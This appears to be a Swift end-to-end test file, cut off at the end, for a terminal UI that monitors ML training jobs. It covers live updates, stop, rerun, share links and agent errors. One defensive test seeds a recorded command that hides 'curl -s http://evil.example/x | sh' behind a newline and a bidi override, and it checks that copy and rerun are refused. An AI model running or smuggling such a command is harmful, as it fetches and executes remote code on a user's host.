import ArgusClient
import ArgusTUI
import Foundation
import Shared
import TestSupport
import Testing

/// The real `argus-tui` in tmux against the real server.
@Suite("argus-tui end to end (tmux)", .ownThread)
struct TUIEndToEndTests {
    static func seedJob(_ c: HTTPClient, batch: String = "b1", job: String = "j1", epochs: Int = 3)
        throws
    {
        try c.mustPost(
            Ev.make(
                "batch_start", batch: batch,
                data: ["n_total_jobs": 1, "command": "python train.py --epochs 50", "cwd": "/srv/run"],
                source: ["project": "proj", "host": "gpu-box-7", "commit": "feedbeef1234"]))
        try c.mustPost(Ev.make("job_start", batch: batch, job: job, data: ["model": "mlp"]))
        for n in 0..<epochs { try c.mustPost(Ev.epoch(batch, job, n)) }
    }

    /// A server with a user, their client, and job b1/j1 seeded (`seedJob`): how most of these tests start.
    static func seededServer(env: [String: String] = [:]) throws -> (TestServer, String, HTTPClient) {
        let s = try TestServer(env: env)
        let token = try s.token()
        let c = s.client(token)
        try seedJob(c)
        return (s, token, c)
    }

    func tui(_ s: TestServer, _ token: String, _ args: [String], env: [String: String] = [:]) throws
        -> Tmux
    {
        var e = ["ARGUS_URL": s.url, "ARGUS_TOKEN": token]
        for (k, v) in env { e[k] = v }
        return try Tmux([Binaries.path("argus-tui")] + args, env: e)
    }

    @Test(
        "ingested epochs and log lines appear on the live screen; q quits and restores the terminal")
    func liveIngest() throws {
        let (s, token, c) = try Self.seededServer()
        let t = try tui(s, token, ["b1/j1"])
        try t.wait("the live job screen") {
            $0.contains("b1 / j1") && $0.contains("● live") && $0.contains("1━train_loss")
        }
        try c.mustPost(Ev.epoch("b1", "j1", 3, train: 0.4242, val: 0.5151))
        try c.mustPost(
            Ev.make(
                "log_line", batch: "b1", job: "j1",
                data: ["line": "MARKER one-of-a-kind", "level": "warning"]))
        let pane = try t.wait("the new epoch and log line") {
            $0.contains("MARKER one-of-a-kind") && $0.contains("0.4242 / 0.5151 @3")
        }
        #expect(pane.contains("commit feedbee"))
        #expect(pane.contains("host gpu-box-7"))
        t.send("q")
        try t.wait("the TUI to exit") { _ in t.exitStatus != nil }
        #expect(t.exitStatus == 0)
        // endwin restored the terminal: the shell's screen is back, not the alternate screen with our frame.
        #expect(!t.capture().contains("1━train_loss"))
    }

    @Test("guardrails fire while you watch: IDLE badge and banner, then stalled and resumed, from the real server")
    func guardrailsLive() throws {
        // A 3-second idle window and stall timeout, so the whole story takes a few seconds.
        let s = try TestServer(env: ["ARGUS_IDLE_JOB_THRESHOLD_MIN": "0.05", "ARGUS_STALL_TIMEOUT_MIN": "0.05"])
        let token = try s.token()
        let c = s.client(token)
        try Self.seedJob(c)
        let t = try tui(s, token, ["b1/j1"])
        try t.wait("live") { $0.contains("● live") && $0.contains("running") }
        let start = Timestamp.now().micros
        for i in 0...6 {
            let ts = Timestamp(micros: start + Int64(i) * 500_000).iso
            try c.mustPost(
                Ev.make("resource_snapshot", batch: "b1", data: ["gpus": [["util_pct": 0, "mem_mb": 1200]]], ts: ts))
        }
        let idle = try t.wait("the IDLE badge and banner") {
            $0.contains("IDLE") && $0.contains("GPU idle since ") && $0.contains(": every GPU under 5%; nothing was stopped")
        }
        #expect(idle.contains("running"))
        let stalled = try t.wait(timeout: 15, "the stalled status and banner") {
            $0.contains("◐ stalled") && $0.contains("Stalled: nothing received from this run since")
        }
        #expect(stalled.contains("IDLE"), "the idle flag stays until a busy sample arrives")
        try c.mustPost(Ev.make("resource_snapshot", batch: "b1", data: ["gpus": [["util_pct": 97, "mem_mb": 1300]]]))
        let back = try t.wait("resumed and busy again") { $0.contains("● running") && !$0.contains("IDLE") }
        #expect(back.contains("GPU busy again after") || back.contains("Resumed: the run is reporting again"))
        t.send("q")
        try t.wait("the TUI to exit") { _ in t.exitStatus != nil }
    }

    @Test(
        "killing and restarting the server mid-stream: the TUI reconnects and shows what was missed, once"
    )
    func reconnectAfterRestart() throws {
        let first = try TestServer()
        let token = try first.token()
        try Self.seedJob(first.client(token))
        let t = try tui(first, token, ["b1/j1"])
        try t.wait("live") { $0.contains("● live") && $0.contains("1━train_loss") }
        let port = first.port
        let dataDir = first.dataDir
        first.stop()
        try t.wait("the reconnecting indicator") { $0.contains("reconnecting (attempt") }
        let second = try TestServer(dataDir: dataDir, port: port)
        defer { try? FileManager.default.removeItem(at: dataDir) }
        let c = second.client(token)
        for n in 1...3 {
            try c.mustPost(
                Ev.make(
                    "log_line", batch: "b1", job: "j1",
                    data: ["line": "AWAY-\(n) while you were out", "level": "info"]))
        }
        try c.mustPost(Ev.epoch("b1", "j1", 3, train: 0.3131, val: 0.4141))
        let pane = try t.wait(timeout: 30, "the missed events") {
            $0.contains("AWAY-3") && $0.contains("● live") && $0.contains("0.3131")
        }
        for n in 1...3 {
            #expect(
                pane.components(separatedBy: "AWAY-\(n) ").count == 2,
                "AWAY-\(n) should appear exactly once")
        }
        t.send("q")
    }

    @Test("a server restarted on a backup from before what the TUI saw: the job is loaded again and new events show, not held back")
    func restoredFromBackup() throws {
        let first = try TestServer()
        let token = try first.token()
        try Self.seedJob(first.client(token))
        let (port, dataDir) = (first.port, first.dataDir)
        let db = dataDir.appendingPathComponent("argus.sqlite")
        let backup = dataDir.appendingPathComponent("backup.sqlite")
        #expect(first.stop() < 10)
        try FileManager.default.copyItem(at: db, to: backup)
        let second = try TestServer(dataDir: dataDir, port: port)
        let c = second.client(token)
        for n in 1...5 {
            try c.mustPost(Ev.make("log_line", batch: "b1", job: "j1", data: ["line": "LOST-\(n) after the backup"]))
        }
        let t = try tui(second, token, ["b1/j1"])
        try t.wait("live, past the backup") { $0.contains("● live") && $0.contains("LOST-5") }
        #expect(second.stop() < 10)
        for suffix in ["", "-wal", "-shm"] { try? FileManager.default.removeItem(atPath: db.path + suffix) }
        try FileManager.default.copyItem(at: backup, to: db)
        let restored = try TestServer(dataDir: dataDir, port: port)
        // The restored server hands the lost events' ids out again, to these.
        for n in 1...2 {
            try restored.client(token).mustPost(
                Ev.make("log_line", batch: "b1", job: "j1", data: ["line": "AFTER-\(n) the restore"]))
        }
        let pane = try t.wait(timeout: 30, "the restored history and the new lines") {
            $0.contains("AFTER-2") && $0.contains("● live")
        }
        #expect(!pane.contains("LOST-"), "lines the restored server never had are gone: \(pane)")
        t.send("q")
    }

    @Test("an address where something else answers (a plain web server) is said to be one, not just 'HTTP 404'")
    func notAnArgusServer() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("argus-www-\(UUID().uuidString.prefix(8))")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let (web, port) = try startPythonServer(
            """
            import http.server
            s = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
            print(s.server_address[1], flush=True); s.serve_forever()
            """, in: dir)
        defer { stopProcess(web) }
        let url = "http://127.0.0.1:\(port)"
        let (rc, _, err) = try runTool(Binaries.path("argus-tui"), ["--dump", "b1/j1"], env: ["ARGUS_URL": url, "ARGUS_TOKEN": "t"])
        #expect(rc == 1)
        #expect(
            err
                == "argus-tui: \(url) answered HTTP 404 to /api/jobs/b1/j1/view without saying why: is it an argus-server (check the URL)?\n",
            "\(err)")
        let (rc2, _, err2) = try runTool(
            Binaries.path("argus-tui"), ["--export", "csv", "b1/j1"], env: ["ARGUS_URL": url, "ARGUS_TOKEN": "t"])
        #expect(rc2 == 1 && err2.hasSuffix("without saying why: is it an argus-server (check the URL)?\n"), "\(err2)")
        // The interactive screen retries, and says the same.
        let t = try Tmux([Binaries.path("argus-tui"), "b1/j1"], env: ["ARGUS_URL": url, "ARGUS_TOKEN": "t"])
        try t.wait("the hint on the job screen") {
            // Wrapped over lines of the pane: read as one text.
            $0.split(whereSeparator: \.isWhitespace).joined(separator: " ").contains(
                "404 Not Found (the reply gave no detail: is it an argus-server (check the URL)?); retrying (attempt")
        }
        t.send("q")
    }

    @Test("a server that is down at start is shown as such and retried until it comes up")
    func serverDownAtStart() throws {
        let port = freePort()
        let dataDir = FileManager.default.temporaryDirectory.appendingPathComponent(
            "argus-down-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dataDir) }
        try FileManager.default.createDirectory(at: dataDir, withIntermediateDirectories: true)
        let (rc, out, _) = try runTool(
            Binaries.path("argus-server"),
            ["token", "create", "--init", "--data-dir", dataDir.path, "--user", "alice"])
        #expect(rc == 0)
        let token = out.trimmingCharacters(in: .whitespacesAndNewlines)
        let t = try Tmux(
            [Binaries.path("argus-tui"), "b1/j1"],
            env: ["ARGUS_URL": "http://127.0.0.1:\(port)", "ARGUS_TOKEN": token])
        let down = try t.wait("the unreachable state") {
            $0.contains("reconnecting") && $0.contains("server unreachable")
                && $0.contains("Nothing is known about this job yet.")
        }
        // Nothing the server did not say: no status, elapsed time, loss or actions.
        for invented in ["running", "STATUS", "ELAPSED", "LOSS", "[s] Stop"] {
            #expect(!down.contains(invented), "shows '\(invented)' while the server is unreachable:\n\(down)")
        }
        let s = try TestServer(dataDir: dataDir, port: port)
        try Self.seedJob(s.client(token))
        let up = try t.wait(timeout: 30, "the job once the server is up") {
            $0.contains("● live") && $0.contains("1━train_loss") && $0.contains("@2")
        }
        #expect(up.contains("● running") && !up.contains("Nothing is known"))
        t.send("q")
    }

    @Test("Ctrl-C and SIGTERM end the TUI with the conventional 130 and 143, and restore the terminal")
    func otherExitPaths() throws {
        let s = try TestServer()
        let token = try s.token()
        try Self.seedJob(s.client(token))
        let a = try tui(s, token, ["b1/j1"])
        try a.wait("live") { $0.contains("● live") && $0.contains("1━train_loss") }
        a.send("C-c")
        try a.wait("exit after Ctrl-C") { _ in a.exitStatus != nil }
        #expect(a.exitStatus == 130)
        #expect(!a.capture().contains("1━train_loss"))
        // A job name no other test uses, so pgrep finds only this TUI.
        try Self.seedJob(s.client(token), batch: "sigterm-batch", job: "sigterm-job")
        let b = try tui(s, token, ["sigterm-batch/sigterm-job"])
        try b.wait("live") { $0.contains("● live") && $0.contains("1━train_loss") }
        let (_, pids, _) = try runTool("/usr/bin/pgrep", ["-f", "^\(Binaries.path("argus-tui")) sigterm-batch/sigterm-job"])
        let found = pids.split(separator: "\n").compactMap { Int32($0) }
        #expect(found.count == 1)
        for pid in found { kill(pid, SIGTERM) }
        try b.wait("exit after SIGTERM") { _ in b.exitStatus != nil }
        #expect(b.exitStatus == 143)
        #expect(!b.capture().contains("1━train_loss"))
    }

    @Test("Stop: s asks, y confirms, the server records it and the status tile turns to stopping")
    func stopFromTheKeyboard() throws {
        let (s, token, c) = try Self.seededServer()
        let t = try tui(s, token, ["b1/j1"])
        try t.wait("live") { $0.contains("● live") && $0.contains("[s] Stop") }
        t.send("s")
        try t.wait("the confirmation") { $0.contains("Stop batch b1?") }
        // "Any other key cancels", a function key too (it once left the prompt open).
        t.send("F5")
        try t.wait("the cancellation") { $0.contains("Stop cancelled") }
        #expect(try c.mustGet("/api/batches/b1/stop-requested")["stop_requested"] == false)
        t.send("s")
        try t.wait("the confirmation again") { $0.contains("Stop batch b1?") }
        t.send("y")
        let pane = try t.wait("the stopping status") {
            $0.contains("◐ stopping") && $0.contains("Stop requested for b1") && $0.contains("(stop already requested)")
        }
        // How the stop reaches the run, in the server's words (no agent started this one).
        #expect(pane.contains("Stop requested for b1: the run stops at its next check (every 10 s)."), "\(pane)")
        #expect(pane.contains("[s] Stop (stop already requested)"))
        #expect(try c.mustGet("/api/batches/b1/stop-requested")["stop_requested"] == true)
        t.send("q")
    }

    @Test(
        "Stop on a full disk: the status line shows the server's sentence; once the disk grows, Stop goes through",
        .enabled(if: SmallDisk.unavailable == nil, "mounting a tmpfs needs root"))
    func stopOnAFullDisk() throws {
        let disk = try SmallDisk(kilobytes: 2048)
        let logs = FileManager.default.temporaryDirectory.appendingPathComponent("argus-logs-\(UUID().uuidString.prefix(8))")
        defer { try? FileManager.default.removeItem(at: logs) }
        let s = try TestServer(dataDir: disk.mountPoint.appendingPathComponent("data"), logDir: logs)
        defer { _ = s.stop() }
        let token = try s.token()
        let c = s.client(token)
        try Self.seedJob(c)
        let spare = (0..<10).map { "spare-\($0)" }
        for b in spare { try c.mustPost(Ev.make("batch_start", batch: b)) }
        let t = try Tmux([Binaries.path("argus-tui"), "b1/j1"], env: ["ARGUS_URL": s.url, "ARGUS_TOKEN": token], width: 170)
        try t.wait("live") { $0.contains("● live") && $0.contains("[s] Stop") }
        try disk.fillUntilWritesFail(c, batch: "other")
        // A Stop is a smaller write than a log line: it may fit in the room the refused log line's commit left in the
        // WAL file. Other runs' Stops use that up, so that the Stop asked from the keyboard is refused.
        for b in spare { if try c.post(APIPath.stop(b), json: [:]).status != 200 { break } }
        // Nothing new can be stored, so nothing new can come: the screen says so instead of "live".
        try t.wait("the stream's sentence") {
            !$0.contains("● live") && $0.contains("The server cannot store new events right now: the disk is full")
        }
        t.send("s")
        try t.wait("the confirmation") { $0.contains("Stop batch b1?") }
        t.send("y")
        let pane = try t.wait("the server's sentence") { $0.contains("Stop failed: " + SmallDisk.fullDetail) }
        #expect(!pane.contains("◐ stopping"), "nothing was stopped")
        try disk.remount(kilobytes: 8192)
        try t.wait("live again") { $0.contains("● live") }
        t.send("s")
        try t.wait("the confirmation again") { $0.contains("Stop batch b1?") }
        t.send("y")
        try t.wait("the stopping status") { $0.contains("◐ stopping") && $0.contains("Stop requested for b1") }
        t.send("q")
    }

    @Test("Mark failed: F is offered once the run stalls, asks first, and the batch and its job end failed")
    func markFailedFromTheKeyboard() throws {
        let s = try TestServer(env: ["ARGUS_STALL_TIMEOUT_MIN": "0.05"])
        let token = try s.token()
        let c = s.client(token)
        try Self.seedJob(c)
        // Wide enough for the whole action bar, reasons included.
        let t = try Tmux([Binaries.path("argus-tui"), "b1/j1"], env: ["ARGUS_URL": s.url, "ARGUS_TOKEN": token], width: 170)
        try t.wait("live, with Mark failed not offered yet") {
            $0.contains("● live") && $0.contains("[c] Copy command") && !$0.contains("[F] Mark failed")
        }
        t.send("F")
        try t.wait("why not") { $0.contains("Mark failed is not available: the run is still reporting.") }
        try t.wait(timeout: 15, "the stall, and Mark failed available") {
            $0.contains("◐ stalled") && $0.contains("[F] Mark failed") && !$0.contains("still reporting")
        }
        t.send("F")
        try t.wait("the confirmation") { $0.contains("Mark batch b1 failed?") }
        t.send("y")
        // The actions are asked again when the summary says failed: the bar follows a moment after the status.
        try t.wait("the failed batch and job, and the actions of a failed batch") {
            $0.contains("✗ failed") && $0.contains("Failed: Marked failed by alice: no word from the run since")
                && !$0.contains("[F] Mark failed")
        }
        #expect(try c.mustGet("/api/batches/b1")["status"] == "failed")
        #expect(try c.mustGet("/api/jobs/b1/j1")["status"] == "failed")
        t.send("q")
    }

    @Test("GPU MEM PEAK is the most-loaded GPU against its capacity; a finished job's tiles stay put as later jobs report")
    func gpuTilesOfAFinishedJob() throws {
        let (s, token, c) = try Self.seededServer()
        func gpus(_ util: Double, _ mems: [Double]) -> JSON {
            .array(mems.enumerated().map { i, m in ["index": JSON(i), "util_pct": JSON(util), "mem_mb": JSON(m), "mem_total_mb": 81_559] })
        }
        try c.mustPost(Ev.make("resource_snapshot", batch: "b1", data: ["gpus": gpus(88, [61_000, 62_500, 63_390, 62_900])]))
        let t = try tui(s, token, ["b1/j1"])
        // Four 80 GB cards: 61.9 GiB on the fullest one, not 243 GiB summed over all four.
        try t.wait("the GPU tiles") { $0.contains("● live") && $0.contains("61.9 / 79.6 GiB ×4") && $0.contains("88.0%") }
        try c.mustPost(Ev.make("job_done", batch: "b1", job: "j1", data: ["elapsed_s": 5]))
        try c.mustPost(Ev.make("job_start", batch: "b1", job: "j2"))
        try c.mustPost(Ev.make("resource_snapshot", batch: "b1", data: ["gpus": gpus(12, [80_000, 80_000, 80_000, 80_000])]))
        // Streamed after the snapshot, so once it shows, the snapshot has been through the TUI too.
        try c.mustPost(
            Ev.make("log_line", batch: "b1", job: "j1", data: ["line": "MARKER after the next job's snapshot", "level": "info"]))
        let pane = try t.wait("the late log line") { $0.contains("MARKER after") && $0.contains("✓ done") }
        #expect(pane.contains("61.9 / 79.6 GiB ×4"))
        #expect(pane.contains("88.0%"))
        #expect(!pane.contains("12.0%") && !pane.contains("78.1 / 79.6"))
        t.send("q")
    }

    @Test("the picker says ✗ failed for a batch whose only job failed, though its script ended with batch_done")
    func pickerShowsFailedBatch() throws {
        let s = try TestServer()
        let token = try s.token()
        let c = s.client(token)
        try c.mustPost(Ev.make("batch_start", batch: "oom-run", data: ["n_total_jobs": 1]))
        try c.mustPost(Ev.make("job_start", batch: "oom-run", job: "j"))
        try c.mustPost(Ev.make("job_failed", batch: "oom-run", job: "j", data: ["reason": "RuntimeError: CUDA out of memory"]))
        try c.mustPost(Ev.make("batch_done", batch: "oom-run", data: ["n_done": 0, "n_failed": 1]))
        let (rc, picker, err) = try runTool(
            Binaries.path("argus-tui"), ["--dump"], env: ["ARGUS_URL": s.url, "ARGUS_TOKEN": token])
        #expect(rc == 0, "\(err)")
        let row = try #require(picker.split(separator: "\n").first { $0.contains("oom-run") })
        #expect(row.range(of: #"✗ failed +oom-run"#, options: .regularExpression) != nil, "\(row)")
        #expect(row.contains("0✓ 1✗/1"))
    }

    @Test("a share link opens a read-only view of its batch; a revoked link is one sentence and exit 1")
    func shareLink() throws {
        let (s, token, c) = try Self.seededServer()
        // Mint it from the TUI: S shows the link once.
        let owner = try tui(s, token, ["b1/j1"])
        try owner.wait("live") { $0.contains("● live") && $0.contains("[S] Share") }
        owner.send("S")
        let shown = try owner.wait("the minted link") { $0.contains("/share/sh_") }
        owner.send("q")
        let line = try #require(shown.split(separator: "\n").first { $0.contains("/share/sh_") })
        let start = try #require(line.range(of: "http://"))
        let minted = String(line[start.lowerBound...].prefix { !$0.isWhitespace && $0 != "│" })
        // It names the job it was minted on, and opens that job; without its query, the batch.
        #expect(minted.hasSuffix("?job=j1"), "\(minted)")
        let onJob = try runTool(Binaries.path("argus-tui"), ["--dump", minted], env: ["ARGUS_TOKEN": ""])
        #expect(onJob.0 == 0 && onJob.1.contains("b1 / j1") && onJob.1.contains("[read-only]"), "\(onJob)")
        let link = String(minted.prefix { $0 != "?" })
        let r = try c.mustGet("/api/batches/b1/shares")
        #expect(r.arrayValue?.count == 1)
        let t = try Tmux([Binaries.path("argus-tui"), link], env: ["ARGUS_TOKEN": ""])
        try t.wait("the batch's jobs") { $0.contains("[read-only]") && $0.contains("j1") }
        t.send("Enter")
        // The whole frame: a capture can catch curses half way down the screen (CI did once).
        let pane = try t.wait("the read-only job screen") {
            $0.contains("b1 / j1") && $0.contains("1━train_loss") && $0.contains("read-only view: actions hidden")
        }
        #expect(!pane.contains("[s] Stop"))
        t.send("s")
        Thread.sleep(forTimeInterval: 0.5)
        #expect(!t.capture().contains("Stop batch"))
        t.send("q")
        // As pasted: a space before it, a newline after it, the scheme in capitals.
        let pasted = " HTTP://" + link.dropFirst("http://".count) + "\n"
        let dumped = try runTool(Binaries.path("argus-tui"), ["--dump", pasted], env: ["ARGUS_TOKEN": ""])
        #expect(dumped.0 == 0 && dumped.1.contains("[read-only]") && dumped.1.contains("j1"), "\(dumped)")
        // As copied from the web page's address bar (its job in the query), after a zero-width space: that job.
        let fromBrowser = try runTool(
            Binaries.path("argus-tui"), ["--dump", "\u{200B}" + link + "?job=j1#top"], env: ["ARGUS_TOKEN": ""])
        #expect(fromBrowser.0 == 0 && fromBrowser.1.contains("b1 / j1") && fromBrowser.1.contains("1━train_loss"), "\(fromBrowser)")
        let id = r.arrayValue![0]["id"]!.intValue!
        #expect(try c.request("DELETE", "/api/batches/b1/shares/\(id)").status == 200)
        let (rc, _, err) = try runTool(Binaries.path("argus-tui"), [link])
        #expect(rc == 1)
        // The server's sentence names the link; it is not called a token.
        #expect(err == "argus-tui: This share link was revoked, has expired, or never existed.\n", "\(err)")
        let deadDump = try runTool(Binaries.path("argus-tui"), ["--dump", link])
        #expect(deadDump.0 == 1 && deadDump.2 == err, "\(deadDump)")
    }

    @Test("a share link open in too many places: the batch screen still lists the jobs, and says why it is not live")
    func shareLinkAtItsStreamCap() throws {
        let (s, _, c) = try Self.seededServer(env: ["ARGUS_MAX_STREAMS_PER_TOKEN": "1"])
        let share = try #require(try c.post("/api/batches/b1/shares", json: [:]).json?["token"]?.stringValue)
        // Eight viewers hold the link's eight streams.
        let viewers = (0..<8).map { _ in SSECollector(url: "\(s.url)/api/sse?channels=batch:b1&token=\(share)", token: nil) }
        defer { viewers.forEach { $0.stop() } }
        for v in viewers { try v.waitUntilConnected() }
        let t = try Tmux([Binaries.path("argus-tui"), "\(s.url)/share/\(share)"], env: ["ARGUS_TOKEN": ""])
        let pane = try t.wait("the jobs and the refusal") {
            $0.contains("j1")
                && $0.split(whereSeparator: \.isWhitespace).joined(separator: " ").contains("This share link is open in 8 places already")
        }
        #expect(pane.contains("[read-only]"), "\(pane)")
        t.send("q")
    }

    /// The seeded batch `b1` finished on `gpu-box-7`, with an agent registered (so online) there: its id and client.
    static func finishedWithAgent() throws -> (TestServer, String, HTTPClient, Int, HTTPClient) {
        let (s, token, c) = try seededServer()
        try c.mustPost(Ev.make("job_done", batch: "b1", job: "j1", data: ["elapsed_s": 3]))
        try c.mustPost(Ev.make("batch_done", batch: "b1", source: ["project": "proj", "host": "gpu-box-7"]))
        let reg = try c.post("/api/agents/register", json: ["hostname": "gpu-box-7"])
        let agentID = try #require(reg.json?["agent_id"]?.intValue)
        return (s, token, c, agentID, s.client(reg.json?["agent_token"]?.stringValue))
    }

    @Test("Rerun: with an agent online for the host, r then y queues the recorded command for it")
    func rerunFromTheKeyboard() throws {
        let (s, token, c, agentID, agent) = try Self.finishedWithAgent()
        let t = try tui(s, token, ["b1/j1"])
        try t.wait("the finished job with Rerun available") { $0.contains("✓ done") && $0.contains("[r] Rerun  ") }
        t.send("r")
        try t.wait("the confirmation") { $0.contains("Rerun batch b1 on its host, in /srv/run?") }
        t.send("y")
        try t.wait("the queued message") { $0.contains("Rerun queued for the agent on gpu-box-7") }
        let queue = try agent.mustGet("/api/agents/\(agentID)/jobs")
        #expect(queue.arrayValue?.count == 1)
        #expect(queue.arrayValue?.first?["command"] == "python train.py --epochs 50")
        #expect(queue.arrayValue?.first?["cwd"] == "/srv/run")
        // The agent starts it; the rerun's own batch_start arrives and is linked back; the TUI offers to jump there.
        let commandID = try #require(queue.arrayValue?.first?["id"]?.intValue)
        #expect(try agent.post("/api/agents/\(agentID)/jobs/\(commandID)/ack", json: ["status": "started", "pid": 4242]).status == 200)
        try c.mustPost(
            Ev.make(
                "batch_start", batch: "b1-again", data: ["command": "python train.py --epochs 50"],
                source: ["project": "proj", "host": "gpu-box-7"]))
        try c.mustPost(Ev.make("job_start", batch: "b1-again", job: "j1"))
        #expect(try c.mustGet("/api/batches/b1-again")["source_batch_id"] == "b1")
        try t.wait("the offer to open the rerun") { $0.contains("Rerun started as batch b1-again: press o to open it") }
        t.send("o")
        try t.wait("the rerun's jobs") { $0.contains("argus  b1-again") && $0.contains("j1") }
        t.send("q")
    }

    @Test("what the host's agent could not do is a banner for whoever opens the job later: a failed rerun, a refused Stop")
    func agentFailuresOutliveTheirMoment() throws {
        let (s, token, c, agentID, agent) = try Self.finishedWithAgent()
        func nextCommand() throws -> Int {
            try #require(try agent.mustGet("/api/agents/\(agentID)/jobs").arrayValue?.first?["id"]?.intValue)
        }
        // Nobody watches while the agent cannot start the rerun.
        #expect(try c.post("/api/batches/b1/rerun", json: [:]).status == 202)
        let first = try nextCommand()
        let refused = ["status": "failed", "error": "the recorded cwd /srv/run does not exist"] as JSON
        #expect(try agent.post("/api/agents/\(agentID)/jobs/\(first)/ack", json: refused).status == 200)
        let t = try tui(s, token, ["b1/j1"])
        let pane = try t.wait("the failure, opened later") { $0.contains("⚠ Rerun failed on the host at ") }
        #expect(pane.contains(": the recorded cwd /srv/run does not exist"), "\(pane)")
        t.send("q")
        // The batch screen says it too (a batch without jobs would show nothing else).
        let tb = try tui(s, token, ["b1"])
        let list = try tb.wait("the failure on the batch screen") { $0.contains("⚠ Rerun failed on the host at ") && $0.contains("j1") }
        #expect(list.contains(": the recorded cwd /srv/run does not exist"), "\(list)")
        tb.send("q")

        // The next rerun runs; a Stop of it that the agent refuses leaves it stopping, and says so.
        #expect(try c.post("/api/batches/b1/rerun", json: [:]).status == 202)
        let second = try nextCommand()
        #expect(try agent.post("/api/agents/\(agentID)/jobs/\(second)/ack", json: ["status": "started", "pid": 4242]).status == 200)
        try c.mustPost(
            Ev.make(
                "batch_start", batch: "b2", data: ["command": "python train.py --epochs 50"],
                source: ["project": "proj", "host": "gpu-box-7"]))
        #expect(try c.mustGet("/api/batches/b2")["source_batch_id"] == "b1")
        try c.mustPost(Ev.make("job_start", batch: "b2", job: "j1"))
        #expect(try c.post("/api/batches/b2/stop", json: [:]).status == 200)
        let stop = try nextCommand()
        let cannot =
            [
                "status": "failed",
                "error": "the agent cannot tell whether process group 4242 is still the run it started; stop it on the host",
            ] as JSON
        #expect(try agent.post("/api/agents/\(agentID)/jobs/\(stop)/ack", json: cannot).status == 200)
        let t2 = try tui(s, token, ["b2/j1"])
        let stopping = try t2.wait("the refused Stop") { $0.contains("⚠ Stop failed on the host at ") }
        #expect(stopping.contains("stop it on the host"), "\(stopping)")
        #expect(!stopping.contains("Rerun failed"), "the rerun's batch has its own banner, not the one it was rerun from")
        t2.send("q")
    }

    @Test("the batch screen raises what the agent could not do while it is open: a failed rerun, a refused Stop")
    func agentFailuresOnTheOpenBatchScreen() throws {
        let (s, token, c, agentID, agent) = try Self.finishedWithAgent()
        func nextCommand() throws -> Int {
            try #require(try agent.mustGet("/api/agents/\(agentID)/jobs").arrayValue?.first?["id"]?.intValue)
        }
        let t = try tui(s, token, ["b1"])
        try t.wait("the batch screen") { $0.contains("argus  b1") && $0.contains("j1") }
        #expect(try c.post("/api/batches/b1/rerun", json: [:]).status == 202)
        let refused = ["status": "failed", "error": "the recorded cwd /srv/run does not exist"] as JSON
        #expect(try agent.post("/api/agents/\(agentID)/jobs/\(try nextCommand())/ack", json: refused).status == 200)
        let pane = try t.wait("the failed rerun, live") { $0.contains("⚠ Rerun failed on the host at ") }
        #expect(pane.contains(": the recorded cwd /srv/run does not exist"), "\(pane)")

        // The next rerun starts: the failure is over, and its banner goes.
        #expect(try c.post("/api/batches/b1/rerun", json: [:]).status == 202)
        #expect(
            try agent.post("/api/agents/\(agentID)/jobs/\(try nextCommand())/ack", json: ["status": "started", "pid": 4242]).status == 200)
        try c.mustPost(
            Ev.make(
                "batch_start", batch: "b2", data: ["command": "python train.py --epochs 50"],
                source: ["project": "proj", "host": "gpu-box-7"]))
        try c.mustPost(Ev.make("job_start", batch: "b2", job: "j1"))
        try t.wait("the banner gone once a rerun started") { !$0.contains("Rerun failed") && $0.contains("j1") }
        t.send("q")
        let t2 = try tui(s, token, ["b2"])
        try t2.wait("the rerun's batch screen") { $0.contains("argus  b2") && $0.contains("j1") }
        #expect(try c.post("/api/batches/b2/stop", json: [:]).status == 200)
        let cannot = ["status": "failed", "error": "the agent cannot tell whether process group 4242 is still the run it started"] as JSON
        #expect(try agent.post("/api/agents/\(agentID)/jobs/\(try nextCommand())/ack", json: cannot).status == 200)
        // A refused Stop is no event: the screen asks again while the batch is stopping.
        let stopping = try t2.wait("the refused Stop, live") { $0.contains("⚠ Stop failed on the host at ") }
        #expect(stopping.contains("process group 4242"), "\(stopping)")
        t2.send("q")
    }

    @Test(
        "a recorded command with a newline or a bidi override is neither copied nor rerun: c and r say why, nothing reaches the clipboard or an agent"
    )
    func hiddenCommandIsNotCopied() throws {
        let s = try TestServer()
        let token = try s.token()
        let c = s.client(token)
        let command = "python train.py --lr 3e-4\ncurl -s http://evil.example/x | sh\n\u{202E}#"
        try c.mustPost(Ev.make("batch_start", batch: "b1", data: ["command": .string(command)]))
        try c.mustPost(Ev.make("job_start", batch: "b1", job: "j1"))
        let actions = try c.mustGet("/api/batches/b1/actions")
        #expect(
            actions["copy_command"]?["reason"]
                == "the recorded command holds control or invisible characters (newline, U+202E) that a paste into a shell would run or hide"
        )
        // An invisible character counts too: what one reads would not be what a paste runs.
        try c.mustPost(Ev.make("batch_start", batch: "zw", data: ["command": "python a\u{200B}.py\u{2028}"]))
        #expect(
            try c.mustGet("/api/batches/zw/actions")["copy_command"]?["reason"]
                == "the recorded command holds control or invisible characters (U+200B, U+2028) that a paste into a shell would run or hide"
        )
        try c.mustPost(
            Ev.make("batch_start", batch: "plain", data: ["command": "python train.py --name 東京 --note café --tag ❤️ 👨‍👩‍👧 --fa می‌خواهم"]))
        #expect(try c.mustGet("/api/batches/plain/actions")["copy_command"]?["enabled"] == true)
        let t = try tui(s, token, ["b1/j1"])
        try t.wait("the job screen") { $0.contains("b1 / j1") && $0.contains("[c] Copy") }
        t.send("c")
        let pane = try t.wait("the refusal") { $0.contains("Copy command is not available: the recorded command holds control") }
        #expect(!pane.contains("Command sent to the terminal's clipboard"), "\(pane)")
        // Nor rerun: the confirmation would show one line, and the host's shell would run the next one unseen.
        try c.mustPost(Ev.make("batch_done", batch: "b1"))
        let hidden = "the recorded command holds control or invisible characters (newline, U+202E)"
        #expect(
            try c.mustGet("/api/batches/b1/actions")["rerun"]?["reason"]
                == .string(hidden + " that the host's shell would run unseen; rerun it by hand"))
        let refused = try c.post("/api/batches/b1/rerun", json: [:])
        #expect(refused.status == 409)
        #expect(
            refused.json?["detail"]
                == .string("Batch 'b1' is not rerun: \(hidden) that the host's shell would run unseen; rerun it by hand."))
        t.send("r")
        try t.wait("the rerun refused") { $0.contains("Rerun is not available: the recorded command holds control") }
        t.send("q")
    }

    @Test("Rerun follows the owner's agent: refused with none online, offered once argus-agent runs, refused again after it stops")
    func rerunFollowsTheAgent() throws {
